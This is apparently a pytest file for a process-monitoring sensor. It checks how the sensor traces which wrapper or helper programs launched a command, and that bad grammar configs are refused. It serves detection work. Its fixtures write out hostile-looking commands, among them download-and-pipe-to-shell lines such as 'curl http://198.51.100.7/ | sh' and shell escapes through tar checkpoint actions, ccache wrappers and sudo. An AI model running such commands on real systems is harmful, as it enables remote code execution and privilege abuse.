"""What execs were made to run: records through the engine, the proxy in their alerts; and grammars that are refused."""

from __future__ import annotations

import shlex
from collections.abc import Sequence
from functools import cache
from pathlib import Path
from typing import Any

import native_records as records
import pytest
from engine_rules import table
from row_files import rows

from sensor.compiler.grammar import compile_grammars
from sensor.errors import ConfigError
from sensor.native import Engine, Rules, lib
from sensor.proxy import Proxy, proxy_of

SECOND = 1_000_000_000


@cache
def _table() -> bytes:
    return table([("linux", "process_creation", "Image", "/")])


@cache
def _engine() -> Engine:
    """One for all rows: each has some MiB."""
    engine = Engine(ring_bytes=1 << 16, alert_bytes=1 << 20, table_bytes=1 << 18, table_entries=4096)
    engine.swap_rules(Rules(_table()))
    return engine


class Execs:
    """An engine that says of every exec what it was made to run; one at a time, which knows of nothing yet."""

    def __init__(self) -> None:
        self._engine = _engine()
        lib.sn_engine__forget(self._engine.pointer)
        self._time = 0

    def fork(self, pid: int, parent: int) -> None:
        self._time += SECOND
        who = {"ppid": parent, "parent_start": parent, "creator_pid": parent, "creator_start": parent}
        self._engine.feed(records.fork_record(pid=pid, start=pid, time=self._time, **who))

    def run(self, argv: Sequence[str | bytes], pid: int = 1, parent: int = 0, **more: Any) -> Proxy | None:
        """`start` is the pid: one process a pid."""
        self._time += SECOND
        raw = [a.encode("utf-8", "surrogateescape") if isinstance(a, str) else a for a in argv]
        image = more.pop("image", b"/usr/bin/" + raw[0].rpartition(b"/")[2])
        more = {"pid": pid, "start": pid, "time": self._time, "ppid": parent, "parent_start": parent} | more
        self._engine.feed(records.exec_record(image=image, argv=raw, **more))
        (frame,) = self._engine.take()
        return proxy_of(frame.proxy)


@pytest.mark.parametrize("row", rows("unwind.tsv"), ids=lambda row: row[0])
def test_row(row: list[str]) -> None:
    command, chain, *wanted = row
    proxy = Execs().run(shlex.split(command))
    if chain == "-":
        assert proxy is None
        return
    assert proxy is not None
    assert ",".join(proxy.chain) == chain
    assert proxy.kind == wanted[0]
    for part in wanted[1:]:
        name, _, value = part.replace("\\n", "\n").partition("=")
        got = getattr(proxy, name)
        assert (" ".join(got) if name == "argv" else got) == value


# ---- chains over several execs ----


def chain_of(proxy: Proxy | None) -> tuple[str, ...]:
    return proxy.chain if proxy else ()


def test_wrappers_that_exec() -> None:
    execs = Execs()
    wanted = ("env", "nice", "timeout")
    assert chain_of(execs.run(["env", "nice", "timeout", "5", "id", "-u"], pid=7)) == wanted
    assert chain_of(execs.run(["nice", "timeout", "5", "id", "-u"], pid=7)) == wanted
    assert chain_of(execs.run(["timeout", "5", "id", "-u"], pid=7)) == wanted
    execs.fork(8, 7)
    payload = execs.run(["id", "-u"], pid=8, parent=7)
    assert chain_of(payload) == wanted
    assert payload is not None
    assert (payload.kind, payload.argv, payload.path) == ("command", ("id", "-u"), "/usr/bin/id")


@pytest.mark.parametrize(
    ("execs", "chain", "text"),
    [
        # the program, the pipes that its standard input and output are; the last one is asked
        ([("curl -s http://x/", 0, 7), ("bash", 7, 0)], ("bash",), "curl -s http://x/ | bash"),
        ([("bash", 7, 0), ("curl -s http://x/", 0, 7)], ("bash",), "curl -s http://x/ | bash"),
        ([("curl x", 0, 7), ("sed s/a/b/", 7, 8), ("sh -s a", 8, 0)], ("sh",), "curl x | sed s/a/b/ | sh"),
        ([("sh", 8, 0), ("curl x", 0, 7), ("tee y", 7, 8)], ("sh",), "curl x | tee y | sh"),
        ([("env curl x", 0, 7), ("curl x", 0, 7), ("python3 -", 7, 0)], ("python3",), "curl x | python3"),
        ([("curl x", 0, 7), ("curl y", 0, 7 + 256), ("sh", 7, 0)], (), ""),  # the younger one drove it out
        ([("curl x", 0, 7), ("sh y", 7, 0)], ("sh",), ""),  # data for the script
        ([("curl x", 0, 7), ("wc -l", 7, 0)], (), ""),
        ([("curl x", 0, 7), ("sh", 0, 0)], (), ""),
    ],
)
def test_pipes_that_no_text_announces(execs: list[tuple[str, int, int]], chain: tuple[str, ...], text: str) -> None:
    seen = Execs()
    for pid, (command, in_pipe, out_pipe) in enumerate(execs, 1):
        proxy = seen.run(shlex.split(command), pid=pid, in_pipe=in_pipe, out_pipe=out_pipe)
    assert (chain_of(proxy), proxy.text if proxy else "") == (chain, text)


def test_a_long_line_through_pipes_is_cut() -> None:
    seen = Execs()
    seen.run(["curl", "x" * 1000], pid=1, out_pipe=1)
    for pid in range(2, 200):
        seen.run(["tee", "y" * pid], pid=pid, in_pipe=pid - 1, out_pipe=pid)
    proxy = seen.run(["sh"], pid=200, in_pipe=199)
    assert proxy is not None
    assert (proxy.text[:8], proxy.text[-5:], len(proxy.text)) == ("curl xxx", " | sh", 205)


@pytest.mark.parametrize(
    ("parent", "child", "chain"),
    [
        ("node /usr/bin/npm run x", "sh -c 'id;sh'", ("node", "sh")),
        ("node /tmp/npm run x", "sh -c 'id;sh'", ("sh",)),
        ("find . -exec id {} ;", "id ./a", ("find",)),
        ("xargs -n1 id", "id a", ("xargs",)),
        ("tar cf x y --checkpoint-action=exec=/tmp/x", "/tmp/x", ("tar",)),
        ("bash -c 'id | tee /tmp/x'", "tee /tmp/x", ("bash",)),
        ("bash -c 'id | tee /tmp/x'", "ls", ("bash",)),
        ("bash /tmp/x.sh", "ls", ()),
        ("less /tmp/x", "sh", ("less",)),
        ("ls", "sh", ()),
        ("python3", "sh", ("python3",)),
        ("python3 /tmp/x.py", "sh", ()),
        ("bash", "ls", ()),
        ("flock /tmp/l -c 'id -u'", "sh -c 'id -u'", ("flock", "sh")),
        ("sudo --unknown val id", "id", ("sudo",)),
        ("apt-get install x", "dpkg --configure x", ()),
        ("find . -name id", "id", ()),
        ("sudo -u root sh -c 'ls; id'", "sh -c 'ls; id'", ("sudo", "sh")),
    ],
)
def test_helpers_that_fork(parent: str, child: str, chain: tuple[str, ...]) -> None:
    execs = Execs()
    execs.run(shlex.split(parent), pid=7)
    execs.fork(8, 7)
    assert chain_of(execs.run(shlex.split(child), pid=8, parent=7)) == chain


def test_forks_between() -> None:
    """sudo forks a monitor, which forks what runs the command."""
    execs = Execs()
    execs.run(["sudo", "id"], pid=7)
    execs.fork(8, 7)
    execs.fork(9, 8)
    assert chain_of(execs.run(["id"], pid=9, parent=8)) == ("sudo",)


def test_the_end_of_a_pipe() -> None:
    execs = Execs()
    execs.run(["bash", "-c", "curl http://198.51.100.7/ | sh"], pid=7)
    execs.fork(8, 7)
    shell = execs.run(["sh"], pid=8, parent=7)
    assert shell is not None
    assert (shell.chain, shell.kind, shell.url) == (("bash", "sh"), "pipe", "http://198.51.100.7/")
    execs.fork(9, 8)
    assert chain_of(execs.run(["anything"], pid=9, parent=8)) == ("bash", "sh")


def test_an_exec_by_a_wrapper_itself_has_any_name() -> None:
    execs = Execs()
    execs.run(["env", "editor"], pid=7)
    assert chain_of(execs.run(["payload.bin"], pid=7)) == ("env",)
    assert chain_of(execs.run(["other"], pid=7)) == ()


@pytest.mark.parametrize(
    ("interpreter", "script", "argv", "chain"),
    [
        ("perl", "/usr/bin/parallel", ["perl", "/usr/bin/parallel", "sh", "-c", "id"], ("parallel", "sh")),
        ("dash", "/usr/sbin/service", ["sh", "-e", "/usr/sbin/service", "../../x"], ("service",)),
        ("perl", "/tmp/parallel", ["perl", "/tmp/parallel", "sh", "-c", "id"], ("perl",)),
        ("dash", "/usr/bin/ldd", ["sh", "/usr/bin/ldd", "x"], ("dash",)),
    ],
)
def test_a_script_that_is_a_proxy(interpreter: str, script: str, argv: list[str], chain: tuple[str, ...]) -> None:
    proxy = Execs().run(argv, image=f"/usr/bin/{interpreter}".encode(), script=script.encode())
    assert chain_of(proxy) == chain


def test_another_process_of_the_same_pid_is_another() -> None:
    execs = Execs()
    execs.run(["env", "id"], pid=7)
    assert execs.run(["id"], pid=7, start=8) is None


def test_many_at_once_make_chains_shorter_never_other() -> None:
    execs = Execs()
    pids = range(10, 6010)
    for pid in pids:
        execs.run(["env", f"tool{pid}"], pid=pid)
    found = {chain_of(execs.run([f"tool{pid}"], pid=pid)) for pid in pids}
    assert found == {(), ("env",)}


def test_nothing_is_kept_between_recordings() -> None:
    execs = Execs()
    execs.run(["env", "id"], pid=7)
    assert lib.sn_engine__forget(execs._engine.pointer) == 0
    assert execs.run(["id"], pid=7) is None


# ---- arguments that are not whole, or not text ----


def test_cut_arguments() -> None:
    cut = {"flags": lib.SN_F_ARGV_TRUNCATED}
    known = Execs().run(["bash", "-c", "id; " * 100], **cut)
    assert known is not None
    assert known.truncated
    assert known.chain == ("bash",)
    unknown = Execs().run(["bash", "-o", "pipefail"], **cut)
    assert unknown is not None
    assert not unknown.chain


def test_bytes_that_are_no_text() -> None:
    proxy = Execs().run([b"env", b"/tmp/\xff\x1b[2J", b"\n"])
    assert proxy is not None
    assert proxy.argv == ("/tmp/\udcff\x1b[2J", "\n")


@pytest.mark.parametrize("argv", [[""], ["", "-c", "id"], ["bash", ""], ["env", ""], ["find", "-exec"]])
def test_odd_arguments(argv: list[str]) -> None:
    proxy = Execs().run(argv, image=b"/usr/bin/true")
    assert proxy is None


def test_a_cache_that_stands_for_the_compiler() -> None:
    """/usr/lib/ccache/gcc is a link to ccache: the arguments are the compiler's."""
    assert Execs().run(["gcc", "-o", "a", "a.c"], image=b"/usr/bin/ccache") is None
    proxy = Execs().run(["gcc", "-wrapper", "sh,-c,id", "a.c"], image=b"/usr/bin/ccache")
    assert chain_of(proxy) == ("gcc", "sh")


# ---- grammars ----


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("x: [", "x.grammar.yml"),
        ("x: 1", "x.grammar.yml: x: a program needs a map with at least its class"),
        ("x: {places: [command]}", "at least its class"),
        ("x: {class: w, option: {}}", "x.grammar.yml: x: unknown key option"),
        ("x: {class: w, flags: [permutes]}", "unknown flag permutes"),
        ("x: {class: w, options: {-c: shel}}", "options: shel is none of"),
        ("x: {class: w, places: [flag]}", "places: flag is none of"),
        ("x: {class: w, subs: {y: {class: w, places: [what]}}}", "x.grammar.yml: x y: places: what is none of"),
        ("x: {class: w, names: [y]}\ny: {class: w}", "y has a grammar already"),
    ],
)
def test_refused_grammar(tmp_path: Path, text: str, said: str) -> None:
    (tmp_path / "x.grammar.yml").write_text(text)
    with pytest.raises(ConfigError) as error:
        compile_grammars(tmp_path)
    assert said in str(error.value)
